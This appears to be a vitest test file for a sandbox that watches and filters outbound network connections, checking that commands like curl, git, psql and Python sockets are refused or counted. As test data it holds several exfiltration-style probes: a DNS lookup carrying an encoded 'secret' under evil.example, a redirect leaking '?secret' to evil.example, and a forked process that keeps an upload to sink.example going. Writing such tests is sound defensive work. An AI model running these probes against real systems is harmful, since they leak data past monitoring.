import { createServer as createHttpServer, type Server as HttpServer } from "node:http";
import { listening } from "@gennai/testkit/listening";
import { publicAddress, TestOutside } from "@gennai/testkit/test-outside";
import { afterEach, describe, expect, test } from "vitest";
import { lineServer, WatchedFixture } from "./watched-fixture.ts";

const closing: { close(): unknown }[] = [];
afterEach(() => {
  for (const one of closing.splice(0)) one.close();
});

async function lines() {
  const server = await lineServer();
  closing.push(server);
  return server;
}

async function pages(answer: (url: string) => { status: number; headers?: Record<string, string>; body: string }) {
  const urls: string[] = [];
  const server: HttpServer = createHttpServer((request, response) => {
    urls.push(`${request.headers.host} ${request.url}`);
    const { status, headers = {}, body } = answer(request.url ?? "");
    response.writeHead(status, headers).end(body);
  });
  await listening(server);
  closing.push(server);
  return { server, urls };
}

const say = (host: string, port: number, line: string): string =>
  `python3 -c 'import socket; s=socket.create_connection(("${host}",${port}),5); s.sendall(b"${line}\\n"); print(s.recv(100).decode())'`;

const fetching = (url: string): string =>
  `${process.execPath} -e 'fetch("${url}").then(async (r) => console.log(r.status, await r.text()), (e) => { console.log(String(e.cause ?? e)); process.exit(1); })'`;

test("what was sent is counted when the command ends, also where the connection was not over", async () => {
  const holds = createHttpServer((request) => void request.resume());
  await listening(holds);
  closing.push(holds, { close: () => holds.closeAllConnections() });
  const outside = new TestOutside();
  outside.host("sink.example", 80, holds);
  using fixture = await WatchedFixture.open(outside, [{ host: "sink.example", port: 80 }]);
  // What holds the connection runs on when the command has ended.
  const request = "POST http://sink.example/ HTTP/1.1\\r\\nHost: sink.example\\r\\nContent-Length: 400000\\r\\n\\r\\n";
  const upload = [
    "import socket, os, time",
    `s = socket.create_connection(("127.0.0.53", 61080)); s.sendall(b"${request}" + b"x" * 300000); time.sleep(1)`,
    "os.fork() and os._exit(0)",
    "os.close(1); os.close(2); time.sleep(5)",
  ].join("; ");
  const { connections } = await fixture.run(`python3 -c '${upload}'`);
  expect(connections).toEqual([expect.objectContaining({ host: "sink.example", state: "allowed", count: 1 })]);
  expect(connections[0]?.sent).toBeGreaterThan(300_000);
});

describe("nobody let anything through", () => {
  test.for([
    ["curl over https", "curl -sS --max-time 10 https://registry.example/x", 443],
    ["curl over http", "curl -sS --max-time 10 http://registry.example/x", 80],
    ["node's fetch", fetching("https://registry.example/x"), 443],
    ["node's fetch without a proxy", `NODE_USE_ENV_PROXY=0 ${fetching("http://registry.example:8080/x")}`, 8080],
    ["a program that knows no proxy", say("registry.example", 5432, "hello"), 5432],
    ["git over https", "git ls-remote https://registry.example/r.git", 443],
    ["git over ssh", "git ls-remote git@registry.example:r.git", 22],
    ["wget", "wget -q -t 1 -T 10 -O - https://registry.example/x", 443],
    ["psql", "psql -h registry.example -c 'select 1'", 5432],
  ] as const)("%s is refused at once, and seen", async ([, command, port]) => {
    const outside = new TestOutside();
    using fixture = await WatchedFixture.open(outside);
    const { code, connections, output } = await fixture.run(command);
    expect(code, output).not.toBe(0);
    expect(connections, output).toContainEqual(
      expect.objectContaining({ host: "registry.example", port, state: "refused" }),
    );
    expect(outside.asked).toEqual([]);
    expect(outside.reached).toEqual([]);
  });

  test("a name is told to nobody, whatever stands in it", async () => {
    const outside = new TestOutside();
    using fixture = await WatchedFixture.open(outside, [{ host: "registry.example", port: 443 }]);
    const { output } = await fixture.run(
      `python3 -c 'import socket; print(socket.gethostbyname("c2VjcmV0.evil.example"), socket.gethostbyname("c2VjcmV0.registry.example"))'`,
    );
    expect(output).toMatch(/^127\.77\.\d+\.\d+ 127\.77\.\d+\.\d+$/m);
    expect(outside.asked).toEqual([]);
  });

  test("a name that was looked up and not connected to is told apart", async () => {
    using fixture = await WatchedFixture.open(new TestOutside());
    const { lookedUp, connections } = await fixture.run(say("far.example", 12_345, "hello"));
    expect(connections).toEqual([]);
    expect(lookedUp).toEqual(["far.example"]);
    const named = await fixture.run(say("far.example", 12_345, "hello"), [12_345]);
    expect(named.connections).toMatchObject([{ host: "far.example", port: 12_345, state: "refused" }]);
  });

  test("what a command's own server says on the loopback is not asked about", async () => {
    using fixture = await WatchedFixture.open(new TestOutside());
    const { output, connections } = await fixture.run(
      `python3 -c 'import http.server as h; h.test(h.SimpleHTTPRequestHandler, port=5432, bind="127.0.0.1")' >/dev/null 2>&1 & ` +
        `for i in 1 2 3 4 5 6 7 8 9; do curl -sS -o /dev/null -w '%{http_code}' http://localhost:5432/ && break; sleep 0.3; done; kill $!`,
    );
    expect(output).toContain("200");
    expect(connections).toEqual([]);
  });
});

describe("what was let through", () => {
  const allowed = { host: "registry.example", port: 443 };

  test("is reached at the address that was looked at, by every kind of program, and counted", async () => {
    const outside = new TestOutside();
    outside.host("registry.example", 443, await lines());
    using fixture = await WatchedFixture.open(outside, [allowed]);
    const { output, connections } = await fixture.run(say("registry.example", 443, "hello"));
    expect(output).toContain("got hello");
    expect(outside.reached).toEqual([`${publicAddress}:443`]);
    expect(connections).toEqual([
      {
        host: "registry.example",
        port: 443,
        state: "allowed",
        address: publicAddress,
        count: 1,
        sent: 6,
        received: 10,
      },
    ]);
  });

  test("is one port, and no neighbour", async () => {
    const outside = new TestOutside();
    const neighbour = await lines();
    outside.host("registry.example", 443, await lines());
    outside.host("registry.example", 8443, neighbour);
    using fixture = await WatchedFixture.open(outside, [allowed]);
    const { connections } = await fixture.run(say("registry.example", 8443, "secret"));
    expect(connections).toMatchObject([{ port: 8443, state: "refused" }]);
    expect(neighbour.got).toEqual([]);
  });

  test("is no redirect to another host", async () => {
    const outside = new TestOutside();
    const evil = await pages(() => ({ status: 200, body: "got it" }));
    const good = await pages(() => ({ status: 302, headers: { location: "http://evil.example/?secret" }, body: "" }));
    outside.host("registry.example", 80, good.server);
    outside.host("evil.example", 80, evil.server, "93.184.216.35");
    using fixture = await WatchedFixture.open(outside, [{ host: "registry.example", port: 80 }]);
    const { connections, code } = await fixture.run("curl -sSL --max-time 10 http://registry.example/x");
    expect(code).not.toBe(0);
    expect(good.urls).toEqual(["registry.example /x"]);
    expect(evil.urls).toEqual([]);
    expect(connections).toContainEqual(expect.objectContaining({ host: "evil.example", state: "refused" }));
    expect(connections).toContainEqual(
      expect.objectContaining({ host: "registry.example", state: "allowed", count: 1 }),
    );
  });

  test("is the host that was named, whatever a request says of its host", async () => {
    const outside = new TestOutside();
    const good = await pages(() => ({ status: 200, body: "good" }));
    outside.host("registry.example", 80, good.server);
    using fixture = await WatchedFixture.open(outside, [{ host: "registry.example", port: 80 }]);
    const { output } = await fixture.run("curl -sS --max-time 10 -H 'Host: evil.example' http://registry.example/x");
    expect(output).toBe("good");
    expect(good.urls).toEqual(["registry.example /x"]);
  });

  test.for(["10.0.0.7", "127.0.0.1", "169.254.169.254", "::1", "fd00::1", "100.64.0.1"])(
    "is refused where its name leads to %s, and let through when that was said",
    async (address) => {
      const outside = new TestOutside();
      const inner = await lines();
      outside.host("registry.example", 443, inner, address);
      using unsaid = await WatchedFixture.open(outside, [allowed]);
      const refused = await unsaid.run(say("registry.example", 443, "hello"));
      expect(refused.connections).toMatchObject([{ state: "refused", address }]);
      expect(inner.got).toEqual([]);
      using said = await WatchedFixture.open(outside, [{ ...allowed, address }]);
      expect((await said.run(say("registry.example", 443, "hello"))).output).toContain("got hello");
    },
  );

  test("is refused where one of its addresses is a private one", async () => {
    const outside = new TestOutside();
    outside.host("registry.example", 443, await lines());
    outside.names.set("registry.example", [publicAddress, "10.0.0.7"]);
    using fixture = await WatchedFixture.open(outside, [allowed]);
    expect((await fixture.run(say("registry.example", 443, "hello"))).connections).toMatchObject([
      { state: "refused" },
    ]);
    expect(outside.reached).toEqual([]);
  });

  test("is told apart when the other side is not there", async () => {
    using fixture = await WatchedFixture.open(new TestOutside(), [allowed]);
    const { connections } = await fixture.run(say("registry.example", 443, "hello"));
    expect(connections).toMatchObject([{ state: "failed", reason: "getaddrinfo ENOTFOUND registry.example" }]);
  });

  test("a service on this machine's loopback, and no other", async () => {
    const outside = new TestOutside();
    const database = await lines();
    const other = await lines();
    outside.servers.set("127.0.0.1:5432", (database.address() as { port: number }).port);
    outside.servers.set("127.0.0.1:6379", (other.address() as { port: number }).port);
    using fixture = await WatchedFixture.open(outside, [{ host: "127.0.0.1", port: 5432 }]);
    expect((await fixture.run(say("localhost", 5432, "hello"))).output).toContain("got hello");
    await fixture.run(say("127.0.0.1", 6379, "secret"));
    await fixture.run("curl -sS --noproxy '' --max-time 5 http://127.0.0.1:6379/secret");
    expect(other.got).toEqual([]);
  });
});
